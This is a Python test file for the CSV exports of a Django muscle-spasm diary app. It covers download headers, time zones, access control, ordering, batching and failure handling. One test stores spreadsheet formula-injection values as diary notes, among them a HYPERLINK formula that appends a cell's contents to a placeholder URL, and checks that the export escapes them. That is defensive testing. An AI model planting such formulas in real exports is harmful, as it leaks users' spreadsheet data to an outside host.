"""The diary as spreadsheets: what is sent, how it is read from the database, and that nothing of it is half a file."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from itertools import pairwise

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings

from spasmlog import selectors
from spasmlog.actions.import_file import import_file
from spasmlog.diary import BodySite, ReliefTried
from spasmlog.interchange import DiaryFile
from spasmlog.models import Diary
from spasmlog.spreadsheets.tables import DAYS, EPISODES, MEDICATIONS, TABLES
from spasmlog.views import exports
from spasmlog.vocabulary import Relief, Side, Site
from tests.builders import AS_OF, day, diary, episode, medication
from tests.stored import NAMES, account, stored, undone, vignette
from tests.strategies import diaries

SLUGS = [table.slug for table in TABLES]


def sent(own, slug):
    response = own.get("export", slug)
    assert response.status_code == 200
    return response.getvalue()


def rows(own, slug):
    """The rows as any other program reads them."""
    return list(csv.DictReader(io.StringIO(sent(own, slug).decode("utf-8-sig"), newline="")))


# What is sent --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("slug", SLUGS)
def test_a_table_is_a_file_to_save(own, slug):
    response = own.get("export", slug)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="spasmlog-annas-diary-2026-03-31-{slug}"'
    assert response["Cache-Control"] == "no-store"
    assert int(response["Content-Length"]) == len(response.getvalue())
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("table", TABLES, ids=lambda table: table.slug)
def test_an_empty_diary_is_a_header(own, table):
    assert sent(own, table.slug).decode() == "\ufeff" + ",".join(table.names) + "\r\n"


def test_the_settings_lead_to_the_files_and_to_their_import(own):
    page = own.get("settings").content.decode()
    for slug in SLUGS:
        assert f'href="{own.url("export", slug)}"' in page
    assert f'href="{own.url("spreadsheets")}"' in page


def test_times_are_on_the_clock_of_the_diary(keep):
    own = keep(
        episode("2026-03-28T12:00+00:00", ended="2026-03-29T12:00+00:00", recorded_at=AS_OF), zone="Europe/Berlin"
    )
    (row,) = rows(own, "episodes.csv")
    assert row["started_at"] == "2026-03-28T13:00:00+01:00"
    assert row["ended_at"] == "2026-03-29T14:00:00+02:00"
    assert row["recorded_at"] == "2026-03-31T21:00:00+02:00"


def test_no_cell_begins_as_a_formula_does(keep):
    own = keep(
        episode(note='=HYPERLINK("http://x/?"&A1)'), day(note="@SUM(A1)"), medication("+1", dose="-2", note="\t=3")
    )
    (first,) = rows(own, "episodes.csv")
    assert first["note"] == '\'=HYPERLINK("http://x/?"&A1)'
    assert rows(own, "days.csv")[0]["note"] == "'@SUM(A1)"
    (medicine,) = rows(own, "medications.csv")
    assert (medicine["name"], medicine["dose"], medicine["note"]) == ("'+1", "'-2", "'\t=3")


def test_a_stranger_and_nobody_get_nothing(keep, stranger, nobody):
    for slug in SLUGS:
        assert stranger.get("export", slug).status_code == 404
        assert nobody.get("export", slug).status_code == 302
        assert stranger.post("export", slug).status_code == 404


# From the database, not from values: the same letters ----------------------------------------------------------------


def of_values(value, table):
    return b"".join(table.write(map(table.record_of, getattr(value, table.collection)), value.zone))


@pytest.mark.parametrize("name", NAMES)
def test_the_files_of_every_vignette_are_those_of_its_entries(own, name):
    value = vignette(name).diary
    visitor = type(own)(own.client, stored(value, own.row.account, "vignette"))
    for table in TABLES:
        assert sent(visitor, table.slug) == of_values(value, table)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(value=diaries(most=3))
def test_the_records_of_any_diary_are_those_of_its_entries(db, value):
    with undone():
        row = stored(value, account("bob"), "any")
        for table in TABLES:
            found = b"".join(table.write(selectors.records(row, table.collection), value.zone))
            assert found == of_values(selectors.whole_diary(row), table)


def test_things_stand_in_the_order_of_the_body_and_of_the_list_whenever_they_were_written(keep):
    own = keep(
        episode(
            sites=(Site.JAW, Site.CALF),
            side=Side.LEFT,
            relief=(ReliefTried(Relief.OTHER, False), ReliefTried(Relief.STRETCH, True)),
        )
    )
    (row,) = rows(own, "episodes.csv")
    assert row["sites"] == "calf:left; jaw:left"
    assert row["relief"] == "stretch:yes; other:no"
    assert own.diary.episodes[0].sites == (BodySite(Site.CALF, Side.LEFT), BodySite(Site.JAW, Side.LEFT))


# Batches -------------------------------------------------------------------------------------------------------------


def many(count):
    """Episodes of so many days, several a day."""
    start = AS_OF - timedelta(days=400)
    return [episode((start + timedelta(hours=7 * n)).isoformat(), note=str(n)) for n in range(count)]


def test_every_episode_is_written_once_and_in_order_however_they_are_batched(keep, monkeypatch):
    monkeypatch.setattr(selectors, "RECORDS", 5)
    own = keep(*many(64))
    found = rows(own, "episodes.csv")
    assert [row["note"] for row in found] == [str(n) for n in range(64)]
    assert all(first["started_at"] < second["started_at"] for first, second in pairwise(found[:20]))


@pytest.mark.parametrize("table", [EPISODES, DAYS, MEDICATIONS], ids=lambda table: table.slug)
def test_as_many_queries_for_a_long_diary_as_for_a_short_one(keep, table):
    own = keep(episode(), day("2026-01-01"), medication())

    def queries():
        sent(own, table.slug)  # the first page after a write keeps the history of findings
        with CaptureQueriesContext(connection) as found:
            sent(own, table.slug)
        return len(found)

    before = queries()
    more = diary(*many(300), *(day(f"2025-{month:02}-{n:02}") for month in range(1, 13) for n in range(1, 29)))
    import_file(own.row, DiaryFile(more, None, frozenset()))
    assert queries() == before


# One moment ----------------------------------------------------------------------------------------------------------


def test_a_diary_that_is_written_while_it_is_read_is_read_again(keep, monkeypatch):
    own = keep(episode(note="first"))
    read, readings = selectors.records, []

    def written_meanwhile(row, collection):
        readings.append(collection)
        yield from read(row, collection)
        if len(readings) == 1:
            import_file(row, DiaryFile(diary(episode(note="second")), None, frozenset()))

    monkeypatch.setattr(selectors, "records", written_meanwhile)
    assert {row["note"] for row in rows(own, "episodes.csv")} == {"first", "second"}
    assert len(readings) == 2


def test_a_diary_that_is_written_all_the_time_is_an_error_page_and_no_file(keep, monkeypatch):
    own = keep(episode(note="first"))
    own.client.raise_request_exception = False
    revisions = iter(range(1_000))
    monkeypatch.setattr(selectors, "stored_revision", lambda row: next(revisions))
    response = own.get("export", "episodes.csv")
    assert response.status_code == 503
    assert "first" not in response.content.decode()
    assert next(revisions) == 2 * exports.READINGS


def test_a_failure_in_the_middle_is_an_error_page_and_no_file(keep, monkeypatch):
    own = keep(episode())
    own.client.raise_request_exception = False

    def broken(row, collection):
        yield EPISODES.record_of(episode(note="half"))
        raise exports.OperationalError("the disk is gone")

    monkeypatch.setattr(selectors, "records", broken)
    response = own.get("export", "episodes.csv")
    assert response.status_code == 503
    assert "half" not in response.content.decode()
    assert Diary.objects.get().revision == own.revision
